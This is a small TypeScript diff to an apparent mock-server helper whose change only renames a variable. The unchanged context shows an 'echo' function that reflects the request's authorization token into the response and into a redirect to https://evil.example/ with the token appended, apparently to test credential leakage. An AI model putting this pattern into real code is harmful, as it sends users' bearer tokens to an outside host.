@@ -13,7 +13,7 @@ export function everyHeader(honest: Honest, value: string): Response {
 
 export function echo(honest: Honest): Response {
   const key = honest.request.headers.get("authorization") ?? "";
-  const told = [
+  const headers = [
     key,
     key.slice(7),
     encodeURIComponent(key),
@@ -22,10 +22,10 @@ export function echo(honest: Honest): Response {
   ];
   const json = edited(
     retold(honest.json, (text) => text),
-    (one) => ({ ...one, id: told.join("|") }),
+    (one) => ({ ...one, id: headers.join("|") }),
   );
   return instead(honest, {
-    body: JSON.stringify({ ...(json as Members), told }),
+    body: JSON.stringify({ ...(json as Members), told: headers }),
     headers: {
       "request-id": key,
       location: `https://evil.example/${key}`,
